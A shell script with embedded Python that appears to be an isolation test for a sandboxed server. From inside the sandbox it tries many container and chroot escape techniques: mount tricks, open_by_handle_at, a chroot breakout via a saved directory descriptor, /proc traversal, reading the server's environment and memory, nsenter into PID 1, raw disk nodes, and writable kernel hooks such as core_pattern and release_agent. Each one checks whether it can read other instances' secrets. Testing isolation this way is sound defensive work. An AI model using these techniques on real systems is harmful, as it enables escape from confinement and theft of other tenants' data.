# Tries to see what the server keeps: $STATE is its folder, $OTHER that of another instance, $SERVER its process. Each line of the
# output tells of a trick that worked.
export PATH=$PATH:/usr/sbin:/sbin
# Nothing of this is for the machine itself.
[ -n "$OUTSIDE" ] && [ "$(readlink /proc/self/ns/mnt)" != "$OUTSIDE" ] || exit 1
mkdir -p there
root=$PWD/there
export root

# look TRICK PREFIX: whether something can be read below a prefix.
cat > look << 'END'
cwd=$OTHER/work
for file in "$STATE/batchyard.db" "$STATE/service.json" "$cwd/secret" "$OTHER/root/home/results/secret"; do
    [ -n "$(head -c 16 "$2$file" 2> /dev/null | tr -d '\0')" ] && echo "$1: $2$file"
done
[ -n "$(ls "$2$STATE/oss" "$2$STATE/images" 2> /dev/null | head -c 1)" ] && echo "$1: $2$STATE/oss"
true
END

# All that can be done to mounts, with the rights that there are.
cat > mounts << 'END'
sh look "$1 (as it is)" ""
at=$STATE
while [ "$at" != / ]; do
    mount --bind "$at" "$root" && {
        find "$root" -maxdepth 3 -name batchyard.db -size +0 2> /dev/null | while read -r file; do echo "$1 (bind of $at): $file"; done
        umount -l "$root"
    }
    mount --move "$at" "$root" && { sh look "$1 (moved $at)" ""; mount --move "$root" "$at"; }
    at=$(dirname "$at")
done
for way in --bind --rbind; do
    mount $way / "$root" && {
        sh look "$1 (/ by $way)" "$root"
        umount -l "$root$STATE" && sh look "$1 (/ by $way, uncovered)" "$root"
        umount -l "$root"
    }
done
mkdir -p empty
mount -t overlay overlay -o "lowerdir=/:$PWD/empty" "$root" && { sh look "$1 (overlay)" "$root"; umount -l "$root"; }
mount -o remount,bind,rw "$STATE" && sh look "$1 (remounted)" ""
for option in "" -l -f; do umount $option "$STATE" && sh look "$1 (umount $option)" ""; done
python3 - "$1" < handle
umount -l / && { sh look "$1 (umount of /)" ""; sh look "$1 (umount of /, up)" "$PWD/../../../../../../../../.."; }
true
END

# Folders by their numbers: the first one of the file systems of Linux.
cat > handle << 'END'
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
state = os.environ["STATE"]
for where in ["/etc", "/usr", os.path.dirname(state), "."]:
    try:
        at = os.open(where, os.O_RDONLY)
        for number in (2, 128, 256):
            handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, number, 0))
            opened = libc.open_by_handle_at(at, handle, os.O_RDONLY)
            if opened >= 0 and os.access(state.lstrip("/") + "/batchyard.db", os.R_OK, dir_fd=opened):
                print(sys.argv[1] + ": by its number at " + where)
    except OSError:
        pass
END

# Out of a root by a folder that was open before.
cat > leave << 'END'
import os
try:
    os.makedirs("hole", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("hole")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if os.path.exists(os.environ["STATE"] + "/batchyard.db"):
        print("chroot")
except OSError:
    pass
END

sh look plain ""
sh look "own root" /proc/self/root
sh look up "$PWD/../../../../../../../../../.."
for process in /proc/[0-9]*; do
    for way in root cwd cwd/../../../../../../../../..; do sh look process "$process/$way"; done
    for file in "$process"/fd/*; do
        # Others wait for somebody who writes.
        [ -f "$file" ] && case $(head -c 6 "$file" 2> /dev/null < /dev/null | tr -d '\0') in SQLite) echo "open file: $file" ;; esac
    done
done
[ -n "$(tr -d '\0' < "/proc/$SERVER/environ" 2> /dev/null)" ] && echo environment
python3 -c "open('/proc/$SERVER/mem', 'rb')" 2> /dev/null && echo memory
sh mounts mount
for words in "unshare -m" "unshare -Urm" "unshare -Urmp --fork" "unshare -UrmC" "setpriv --reuid 65534 --clear-groups unshare -Urm"; do
    $words sh mounts "$words"
done
for target in 1 "$SERVER"; do
    for words in "nsenter -m" "nsenter -a" "nsenter -U -m" "nsenter -r -w"; do $words -t "$target" sh "$PWD/look" "$words" ""; done
    unshare -Ur nsenter -t "$target" -m sh "$PWD/look" "unshare, nsenter" ""
done
python3 - < leave
# Disks as they are.
tail -n +3 /proc/partitions | while read -r major minor blocks name; do
    mknod "disk-$name" b "$major" "$minor" && echo "mknod: $name"
    [ -b "/dev/$name" ] && (: < "/dev/$name") && echo "disk: /dev/$name"
done
# Opened only: what is written there the kernel starts outside, or does.
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /sys/kernel/uevent_helper /sys/fs/cgroup/release_agent; do
    [ -e "$file" ] && (: >> "$file") && echo "kernel: $file"
done
exit 0
